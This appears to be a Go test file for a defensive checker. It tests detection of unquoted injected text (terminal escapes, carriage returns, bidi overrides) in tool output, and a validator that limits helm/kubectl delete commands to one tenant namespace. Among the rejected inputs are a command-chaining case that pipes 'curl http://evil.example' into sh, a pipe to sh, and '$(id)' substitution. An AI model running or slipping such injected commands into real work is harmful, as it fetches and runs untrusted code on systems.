package attack

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

// TestUnquoted: the check itself can fail, and fails only for text that does harm.
func TestUnquoted(t *testing.T) {
	t.Parallel()
	m := mark("one")
	shell := "'" + strings.ReplaceAll(m, "'", `'\''`) + "'"
	plain := strings.Map(func(r rune) rune {
		if isObeyed(r) {
			return '?'
		}
		return r
	}, m)
	line, _ := json.Marshal(map[string]any{"message": "set " + strconv.Quote(m), "do": []string{"helm uninstall zqonex --namespace tenant"}}) // texts
	inner, _ := json.Marshal(map[string]any{"message": "set " + plain})                                                                       // texts
	tests := map[string]struct {
		output string
		bad    bool
	}{
		"raw":                               {"set " + m + " is there", true},
		"raw, without control characters":   {"set " + plain + " is there", true},
		"in a command":                      {"    helm uninstall " + plain, true},
		"quoted for a shell, escapes left":  {"    helm uninstall " + shell, true},
		"a terminal's escape without marks": {"a\x1b[31mb", true},
		"a carriage return":                 {"a\rb", true},
		"the other direction":               {"a\u202eb", true},
		"as Go quotes":                      {"set " + strconv.Quote(m) + " is there", false},
		"its harmless part":                 {"set zqonex in tenant", false},
		"a log for machines":                {string(line), false},
		"in the words of such a log":        {string(inner), true},
		"in what Helm prints of it":         {`level=INFO msg=` + strconv.Quote("pod log\n"+string(line)), false},
		"in the words of that":              {`level=INFO msg=` + strconv.Quote("pod log\n"+string(inner)), true},
		"a document":                        {`{"name": ` + quoted(m) + `}`, false},
		"a document's prose":                {`{"why": ` + quoted("set "+m) + `}`, true},
		"nothing of it":                     {"all is well\n\tindented", false},
	}
	for name, test := range tests {
		if got := unquoted(test.output); (len(got) > 0) != test.bad {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func quoted(text string) string {
	b, _ := json.Marshal(text) // a string
	return string(b)
}

func TestOfTenant(t *testing.T) {
	t.Parallel()
	for command, good := range map[string]bool{
		"helm uninstall x --namespace tenant":                 true,
		"kubectl delete autoscalingrunnerset 'a;b' -n tenant": true,
		"helm uninstall cilium --namespace kube-system":       false,
		"helm uninstall x": false,
		"helm uninstall x; curl http://evil.example | sh --namespace tenant": false,
		"helm uninstall x --namespace tenant | sh":                           false,
		"helm uninstall $(id) --namespace tenant":                            false,
		"helm uninstall 'x --namespace tenant":                               false,
		"helm uninstall x --namespace 'tenant2'":                             false,
	} {
		if wrong := ofTenant(command); (wrong == "") != good {
			t.Errorf("%s: %q", command, wrong)
		}
	}
}

func TestCommands(t *testing.T) {
	t.Parallel()
	line := `{"do":["helm uninstall a --namespace b"],"message":"refused"}`
	for _, output := range []string{
		"REFUSED: x\n    helm uninstall a --namespace b\n", line, "x\n" + line + "\n",
		"level=INFO msg=" + strconv.Quote("log:\n"+line), `{"releases":[{"do":["helm uninstall a --namespace b"]}]}`,
	} {
		if got := commands(output); len(got) != 1 || got[0] != "helm uninstall a --namespace b" {
			t.Errorf("%s: %q", output, got)
		}
	}
}
